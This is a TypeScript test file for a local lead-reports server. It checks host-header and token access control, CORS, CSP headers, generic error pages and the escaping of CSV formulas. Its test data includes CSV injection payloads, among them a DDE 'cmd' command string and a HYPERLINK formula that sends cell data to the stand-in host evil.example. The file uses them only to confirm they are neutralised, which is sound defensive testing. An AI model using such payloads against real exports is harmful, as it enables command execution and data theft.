import * as fs from 'node:fs';
import * as http from 'node:http';
import * as os from 'node:os';
import * as path from 'node:path';
import { LocalAccess } from '../../http/security';
import { startTestOrg, type TestOrg } from '../../localorg/testing';
import { csvCell, csvLine } from '../render/csv';
import { startReportServer, type ReportServer } from '../server';

/**
 * The reports server `npm start` runs, as a hostile page or a local process would try it: lead and rep
 * data only for the browser that opened the printed URL, headers that keep its answers inert, no
 * internals in an error, and CSV that no spreadsheet runs as a formula. Lead fields come from public
 * web-to-lead forms, so the payloads here are lead sources a stranger could have typed.
 */
const PAYLOADS = ["=cmd|' /C calc'!A0", '+1', '@SUM(1)', '-2+3', '=HYPERLINK("http://evil.example/?"&A1,"Click")', '\tTAB', '\rCR'];
const SUBMITTED = '2026-03-10T15:00:00.000Z';
const PERIOD = 'period=2026-03-01..2026-03-31';

let org: TestOrg;
let server: ReportServer;
let cookie: string;

beforeAll(async () => {
  org = await startTestOrg();
  const lead = await org.conn.sobject('Lead').create({ LastName: 'Formula', Company: 'Spreadsheet Risk', Status: 'New' });
  if (!lead.success) throw new Error('lead not created');
  for (const [i, source] of PAYLOADS.entries()) {
    const saved = await org.conn.sobject('Lead_Quality_Feedback__c').create({
      Lead__c: lead.id,
      Disposition__c: 'Accept',
      Rating__c: (i % 5) + 1,
      Lead_Source__c: source,
      Submitted_At__c: SUBMITTED
    });
    if (!saved.success) throw new Error(`feedback not created: ${JSON.stringify(saved)}`);
  }
  server = await startReportServer(org.conn);
  const first = await fetch(server.openUrl, { redirect: 'manual' });
  expect([first.status, first.headers.get('location')]).toEqual([303, '/reports']);
  cookie = (first.headers.get('set-cookie') ?? '').split(';')[0];
}, 60_000);

afterAll(async () => {
  await server?.close();
  await org?.close();
});

/** `/reports…` or `/scorecard.json` on the server, as the signed-in browser (its cookie). */
const origin = () => new URL(server.url).origin;
const get = (path: string, headers: Record<string, string> = {}) => fetch(`${origin()}${path}`, { headers: { cookie, ...headers } });

/** The status of a GET with exactly these headers (node:http: fetch() sets Host and Sec-Fetch-* itself). */
function statusOf(path: string, headers: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: new URL(server.url).port, path, headers }, (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on('error', reject);
    req.end();
  });
}

const statusWithHost = (host: string) => statusOf('/reports/Lead_Quality_By_Lead_Source.json', { host, cookie });

describe('reports server', () => {
  it('answers a DNS-rebinding page (another Host) with 421, even with the cookie', async () => {
    expect(await statusWithHost('evil.example')).toBe(421);
    expect(await statusWithHost(`evil.example:${new URL(server.url).port}`)).toBe(421);
    expect(await statusWithHost(`localhost:${new URL(server.url).port}`)).toBe(200);
  });

  it('shows lead and rep data only with this run’s token or its cookie', async () => {
    for (const path of ['/reports', '/reports/Lead_Quality_By_Lead_Source.csv', '/scorecard.json']) {
      const res = await fetch(`${origin()}${path}`);
      expect([path, res.status]).toEqual([path, 403]);
      expect(await res.text()).not.toContain('cmd');
    }
    expect((await fetch(`${server.url}?token=not-the-token-of-this-run`, { redirect: 'manual' })).status).toBe(403);
    const bearer = await fetch(`${origin()}/reports/Lead_Quality_By_Lead_Source.json?${PERIOD}`, {
      headers: { authorization: `Bearer ${server.access.token}` }
    });
    expect(bearer.status).toBe(200);
    // another origin's script, even where the browser sends the cookie (another server on 127.0.0.1)
    const crossOrigin = await get(`/reports/Lead_Quality_By_Lead_Source.json?${PERIOD}`, { origin: 'http://127.0.0.1:3000' });
    expect(crossOrigin.status).toBe(403);
    const embedded = await get(`/reports/Lead_Quality_By_Lead_Source.json?${PERIOD}`, {
      'sec-fetch-site': 'same-site',
      'sec-fetch-mode': 'no-cors'
    });
    expect(embedded.status).toBe(403);
    // a link from another page of this machine opens (a navigation), with the cookie (fetch() would set its own sec-fetch-mode)
    const navigation = await statusOf(`/reports?${PERIOD}`, { cookie, 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'navigate' });
    expect(navigation).toBe(200);
  });

  it('the printed URL keeps working when opened again, and keeps the query', async () => {
    const again = await fetch(`${server.openUrl}&${PERIOD}`, { redirect: 'manual' });
    expect(again.status).toBe(303);
    expect(again.headers.get('location')).toBe(`/reports?${PERIOD}`);
  });

  it('lets a server of the same run (the preview) read a report, with CORS for its origin only', async () => {
    const access = new LocalAccess();
    const shared = await startReportServer(org.conn, { access });
    access.gate(5999); // the preview of the same run, on its own port
    try {
      const res = await fetch(`${shared.url}/Lead_Quality_By_Lead_Source.json?${PERIOD}`, {
        headers: {
          cookie: `${access.cookieName}=${access.token}`,
          origin: 'http://127.0.0.1:5999',
          'sec-fetch-site': 'same-site',
          'sec-fetch-mode': 'cors'
        }
      });
      expect(res.status).toBe(200);
      expect(res.headers.get('access-control-allow-origin')).toBe('http://127.0.0.1:5999');
      expect(res.headers.get('access-control-allow-credentials')).toBe('true');
      // the cookie of another run's server does not open this one
      expect((await fetch(`${shared.url}`, { headers: { cookie } })).status).toBe(403);
    } finally {
      await shared.close();
    }
  });

  it('sends a CSP whose nonce is that of the page’s own scripts, nosniff and no Referer', async () => {
    const page = await get(`/reports?${PERIOD}`);
    expect(page.status).toBe(200);
    const csp = page.headers.get('content-security-policy') ?? '';
    const nonce = /script-src 'nonce-([^']+)'/.exec(csp)?.[1];
    expect(nonce).toBeDefined();
    expect(csp).not.toContain('unsafe-inline');
    const html = await page.text();
    const scripts = [...html.matchAll(/<script([^>]*)>/g)].map((m) => m[1]);
    expect(scripts.length).toBe(2);
    for (const attrs of scripts) expect(attrs).toBe(` nonce="${nonce}"`);
    // a new nonce for every page
    const other = /'nonce-([^']+)'/.exec(
      (await get('/reports/Lead_Quality_By_Lead_Source')).headers.get('content-security-policy') ?? ''
    )?.[1];
    expect(other).toBeDefined();
    expect(other).not.toBe(nonce);
    for (const path of [
      `/reports?${PERIOD}`,
      '/reports/Lead_Quality_By_Lead_Source.csv',
      '/scorecard.json',
      '/nothing',
      '/reports/No_Such_Report'
    ]) {
      const res = await get(path);
      expect([path, res.headers.get('x-content-type-options'), res.headers.get('referrer-policy')]).toEqual([
        path,
        'nosniff',
        'no-referrer'
      ]);
      expect([path, res.headers.get('content-security-policy')]).toEqual([path, expect.stringContaining("frame-ancestors 'none'")]);
    }
  });

  it('lets only the What-if page reach itself from script (its replay in place), which gets the parts, not a page', async () => {
    // the queue the shipped Accept policy recycles leads to (the demo data's), which the replay's setup checks
    const queue = await org.conn.sobject('Group').create({ Name: 'Nurture Queue', DeveloperName: 'Nurture_Queue', Type: 'Queue' });
    if (!queue.success) throw new Error('queue not created');
    await org.conn.sobject('QueueSobject').create({ QueueId: queue.id, SobjectType: 'Lead' });
    const page = await get('/whatif');
    expect(page.status).toBe(200);
    const csp = page.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("form-action 'self'");
    expect((await get(`/reports?${PERIOD}`)).headers.get('content-security-policy')).toContain("connect-src 'none'");
    const parts = await get(`/whatif?${PERIOD}&target.Lead_Accept=90`, { 'x-closed-loop-fragment': 'whatif' });
    expect(parts.status).toBe(200);
    const html = await parts.text();
    expect(html).toMatch(/^<div id="whatif-error-slot"><\/div>\n<div id="whatif-results" data-summary="Figures updated\. Accept: /);
    expect(html).not.toMatch(/<script|<style|<html|<form/);
    const refused = await get('/whatif?period=next-decade', { 'x-closed-loop-fragment': 'whatif' });
    expect(refused.status).toBe(400);
    expect(await refused.text()).toMatch(/^<div id="whatif-error-slot"><p class="error" role="alert" id="whatif-error">[^<]*next-decade/);
  });

  it('writes no CSV cell a spreadsheet would run as a formula; numbers stay numbers', async () => {
    const res = await get(`/reports/Lead_Quality_By_Lead_Source.csv?${PERIOD}`);
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'+1"`);
    expect(csv).toContain(`"'@SUM(1)"`);
    expect(csv).toContain(`"'-2+3"`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csv).toContain(`"'\tTAB"`);
    // no cell (after a separator or at a line's start, outside quotes) begins a formula
    for (const line of csv.split('\r\n')) {
      for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? []) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
    }
    // the summary figures are written as numbers: the grand total counts the seven feedback records
    expect(csv).toMatch(/^Grand Total,.*\b7\b/m);
  });

  it('answers a failure inside with a generic message and an id; the details go to its log only', async () => {
    // a report definition the runner cannot read: its error names files of this machine
    const pkgDir = fs.mkdtempSync(path.join(os.tmpdir(), 'closed-loop-reports-'));
    fs.mkdirSync(path.join(pkgDir, 'main', 'default', 'reports', 'Broken'), { recursive: true });
    fs.writeFileSync(
      path.join(pkgDir, 'main', 'default', 'reports', 'Broken', 'Bad.report-meta.xml'),
      '<Report><reportType>Nope</reportType>'
    );
    const logged: string[] = [];
    const broken = await startReportServer(org.conn, { pkgDir, log: (line) => logged.push(line) });
    try {
      const res = await fetch(`${new URL(broken.url).origin}/reports`, { headers: { authorization: `Bearer ${broken.access.token}` } });
      expect(res.status).toBe(500);
      const text = await res.text();
      const id = /id ([0-9a-f]{12})/.exec(text)?.[1];
      expect(id).toBeDefined();
      expect(text).not.toContain(pkgDir);
      expect(text).not.toMatch(/Bad|Nope|\n\s+at /);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(logged.join('\n')).toContain(id);
      expect(logged.join('\n')).toContain('Bad');
      // and it keeps serving
      expect((await get(`/reports/Lead_Quality_By_Lead_Source.json?${PERIOD}`)).status).toBe(200);
    } finally {
      await broken.close();
      fs.rmSync(pkgDir, { recursive: true, force: true });
    }
  });
});

describe('CSV cells (OWASP CSV injection guidance)', () => {
  it('neutralises text that starts a formula, and quotes it', () => {
    expect(PAYLOADS.map((p) => csvCell(p))).toEqual([
      `"'=cmd|' /C calc'!A0"`,
      `"'+1"`,
      `"'@SUM(1)"`,
      `"'-2+3"`,
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
      `"'\tTAB"`,
      `"'\rCR"`
    ]);
    // a separator, a quote or a line break is quoted, so no payload starts a cell of its own
    expect(csvCell('Acme, =1+1')).toBe('"Acme, =1+1"');
    expect(csvCell('Acme; =1+1')).toBe('"Acme; =1+1"');
    expect(csvCell('Web')).toBe('Web');
  });

  it('keeps numbers of numeric columns numbers; the same text in a text column is text', () => {
    expect(csvLine(['-2+3', -5, 1.5, '-5', null], ['text', 'number', 'number', 'text', 'number'])).toBe(`"'-2+3",-5,1.5,"'-5",`);
    // a text value in a numeric column is still text
    expect(csvLine(['=1+1'], ['number'])).toBe(`"'=1+1"`);
  });
});
